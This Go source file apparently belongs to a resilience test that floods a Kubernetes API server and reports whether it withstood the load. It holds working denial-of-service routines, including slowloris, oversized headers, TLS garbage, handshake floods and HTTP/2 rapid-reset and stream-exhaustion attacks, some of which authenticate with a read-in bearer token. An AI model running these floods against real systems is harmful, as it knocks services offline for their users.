package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"fmt"
	"io"
	"net"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	floodTime = 8 * time.Second
	workers   = 64
)

// floods are attacks that many workers repeat. Connections that they leave open stay open
// until the flood ends.
var floods = map[string]func(ctx context.Context, keep func(io.Closer)) error{
	"connections": connections,
	"garbage":     garbage,
	"handshakes":  handshakes,
	"slowloris":   slowloris,
	"headers":     headers,
	"resets":      resets,
	"streams":     streams,
}

// flood attacks the mesh for a while. Its other clients show whether it withstood the attack.
func flood(ctx context.Context, kind string) (verdict, error) {
	attack := floods[kind]
	if attack == nil {
		return verdict{}, fmt.Errorf("no flood %q", kind)
	}
	return repeat(ctx, func(ctx context.Context, _ int, keep func(io.Closer)) error { return attack(ctx, keep) })
}

// repeat has many workers attack for a while. The attack gets the number of its worker.
func repeat(ctx context.Context, attack func(ctx context.Context, worker int, keep func(io.Closer)) error) (verdict, error) {
	ctx, cancel := context.WithTimeout(ctx, floodTime)
	defer cancel()
	var mu sync.Mutex
	var open []io.Closer
	keep := func(c io.Closer) {
		mu.Lock()
		defer mu.Unlock()
		open = append(open, c)
	}
	var done, refused atomic.Int64
	var g sync.WaitGroup
	for worker := range workers {
		g.Go(func() {
			for ctx.Err() == nil {
				if err := attack(ctx, worker, keep); err != nil {
					refused.Add(1)
				} else {
					done.Add(1)
				}
			}
		})
	}
	g.Wait()
	for _, c := range open {
		_ = c.Close()
	}
	if done.Load() == 0 && refused.Load() == 0 {
		return verdict{}, fmt.Errorf("nothing was tried")
	}
	return held("%d went through, %d did not, %d connections open in the end", done.Load(), refused.Load(), len(open))
}

// connections opens connections and sends nothing.
func connections(ctx context.Context, keep func(io.Closer)) error {
	return idle(ctx, &url.URL{Host: apiserver()}, keep)
}

// garbage sends random bytes instead of TLS.
func garbage(ctx context.Context, _ func(io.Closer)) error {
	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", apiserver())
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(patience))
	_, err = io.CopyN(conn, rand.Reader, 16<<10)
	return err
}

// handshakes cost the other side more than this one.
func handshakes(context.Context, func(io.Closer)) error {
	conn, err := dial("kubernetes", "h2")
	if err != nil {
		return err
	}
	return conn.Close()
}

// slowloris sends a request that never ends.
func slowloris(ctx context.Context, keep func(io.Closer)) error {
	conn, err := dial("kubernetes", "http/1.1")
	if err != nil {
		return err
	}
	keep(conn)
	_ = conn.SetDeadline(time.Now().Add(floodTime))
	_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\nX-Slow: ")
	return err
}

// headers sends headers that are larger than any client's.
func headers(context.Context, func(io.Closer)) error {
	conn, err := dial("kubernetes", "http/1.1")
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = io.WriteString(conn, "GET / HTTP/1.1\r\nHost: kubernetes\r\nX-Large: "+strings.Repeat("x", 8<<20)+"\r\n\r\n")
	return err
}

// framer opens an HTTP/2 connection on which the attack writes single frames.
func framer() (*http2.Framer, io.Closer, error) {
	conn, err := dial("kubernetes", "h2")
	if err != nil {
		return nil, nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(floodTime))
	f, err := framerOn(conn)
	if err != nil {
		conn.Close()
		return nil, nil, err
	}
	return f, conn, nil
}

func framerOn(conn io.ReadWriter) (*http2.Framer, error) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // until it is closed
	f := http2.NewFramer(conn, nil)
	return f, f.WriteSettings()
}

// fields returns the header block of a request.
func fields(method, path string) ([]byte, error) {
	token, err := tokenIn(tokenFile)
	if err != nil {
		return nil, err
	}
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", method}, {":scheme", "https"}, {":authority", "kubernetes"}, {":path", path},
		{"authorization", "Bearer " + token},
	} {
		if err := e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return nil, err
		}
	}
	return block.Bytes(), nil
}

// resets sends requests and cancels them at once.
func resets(ctx context.Context, _ func(io.Closer)) error {
	f, conn, err := framer()
	if err != nil {
		return err
	}
	defer conn.Close()
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		block, err := fields("GET", "/version")
		if err != nil {
			return err
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// streams sends requests without their bodies, as many as a connection allows, on many
// connections.
func streams(_ context.Context, keep func(io.Closer)) error {
	f, conn, err := framer()
	if err != nil {
		return err
	}
	keep(conn)
	for i := range uint32(200) {
		block, err := fields("POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews")
		if err != nil {
			return err
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
	}
	return nil
}
